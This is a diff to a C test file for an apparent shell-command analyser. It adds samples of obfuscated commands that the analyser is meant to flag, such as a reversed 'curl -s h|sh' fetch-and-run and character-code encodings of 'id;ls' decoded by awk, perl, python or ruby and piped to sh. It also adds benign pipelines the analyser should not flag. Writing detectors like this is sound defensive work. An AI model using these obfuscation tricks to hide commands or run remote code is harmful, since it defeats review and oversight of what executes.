@@ -8,6 +8,24 @@
 #include "flow.h"
 
 static const struct hidden good[] = {
+	/* Programs as filters. */
+	{ "reverse", "curl -s h|sh",
+		"echo 'hs|h s- lruc'|awk '{for(i=length($0);i;i--)"
+		"printf \"%s\",substr($0,i,1)}'|sh" },
+	{ "charcode", "id;ls -l",
+		"echo 105 100 59 108 115 32 45 108|awk "
+		"'{for(i=1;i<=NF;i++)printf \"%c\",$i}'|sh" },
+	{ "tr+tr+charcode", "id;ls -l",
+		"echo 106,101,60,109,116,33,46,109|tr , ' '|tr ' ' '\\n'|awk "
+		"'NR>0{printf \"%c\",$1-1}'|sh" },
+	{ "charcode", "id;ls",
+		"echo 'je<mt'|perl -pe 's/(.)/chr(ord($1)-1)/ge'|sh" },
+	{ "charcode", "id;ls",
+		"echo 'je<mt'|python3 -c 'import sys;print(\"\".join(chr(ord(c)"
+		"-1) for c in sys.stdin.read().strip()))'|sh" },
+	{ "charcode", "id;ls",
+		"echo 'je<mt'|ruby -e 'puts STDIN.read.chomp.chars.map{|c|"
+		"(c.ord-1).chr}.join'|sh" },
 	{ "printf", "id", "eval $(printf \"\\x69\\x64\")" },
 	{ "printf", "whoami",
 		"for c in 77 68 6f 61 6d 69; do printf \"\\x$c\"; done | sh" },
@@ -164,7 +182,9 @@ static const struct hidden good[] = {
 };
 
 /* Text that is reshaped and given to no interpreter, and what nobody knows. */
-static const char *const not [] = {
+static const char *const not [] = { "echo a b c|awk '{print $2,$1}'|sh",
+	"seq 3|awk '{s+=$1}END{print s}'", "echo a:b|awk -F: '{print $2}'|sh",
+	"ps|awk 'NR>1{print $1}'|sh", "printf '%s\\n' b a|awk '/a/{print}'|sh",
 	"cat <<E | sed \"s/@USER@/bob/\" | sh\necho @USER@ is here\nE",
 	"echo 'print(1)' | sed 's/1/2/' | python3",
 	"eval \"$(echo 'export A=b' | sed 's/b/c/')\"", "echo racecar | rev",
@@ -179,8 +199,7 @@ static const char *const not [] = {
 	"echo -e '\\033[31mred\\033[0m'", "printf '\\n'", "echo y | bash x.sh",
 	"sed 's/a/b/' <<< banana", "echo foo | xargs echo",
 	"v=1.2.3; echo ${v%.*}; echo ${v//./-}", "base64 -d <<< '####'",
-	"tr a-z A-Z <<< \"$USER\" | bash", "echo | base64 -d | sh"
-};
+	"tr a-z A-Z <<< \"$USER\" | bash", "echo | base64 -d | sh" };
 
 static struct str text;
 
@@ -205,6 +224,7 @@ static double run_ms(struct flow *fl, const char *head, const char *what,
 	for (int i = 0; i < 3; i++) {
 		double ms = clock_ms();
 
+		flow_renew(fl);
 		flow_run(fl, str_bytes(&all));
 		ms = clock_ms() - ms;
 		best = ms < best ? ms : best;
@@ -260,8 +280,18 @@ static void test_time(void)
 		{ "eval $x;", "set -- $* a b;", "" },
 		{ "eval $x <<<'", "a\n",
 			"';while read x;do y+=$x;done <<<\"$z\"" },
-		{ "x='", "a\n",
-			"';while read y;do eval $y$z;done <<<\"$x\"" } };
+		{ "x='", "a\n", "';while read y;do eval $y$z;done <<<\"$x\"" },
+		{ "",
+			"echo dv|awk '{for(i=1;i<=length($0);i++)printf "
+			"\"%c\",substr($0,i,1)}'|sh;",
+			"" },
+		{ "",
+			"echo a|python3 -c 'import sys;"
+			"print(sys.stdin.read()[::-1])'|sh;",
+			"" },
+		{ "echo ", "a ", "|awk '{for(i=NF;i;i--)printf $i}'|sh" },
+		{ "awk '{x=x $0;print x}' <<'E'|sh\n", "ab\n", "E\n" },
+		{ "perl -pe '", "s/a/b/;s/b/a/;", "'<<<aaaa|sh" } };
 	struct flow *fl = flow_new();
 
 	for (size_t i = 0; fl && i < sizeof(rows) / sizeof(rows[0]); i++) {
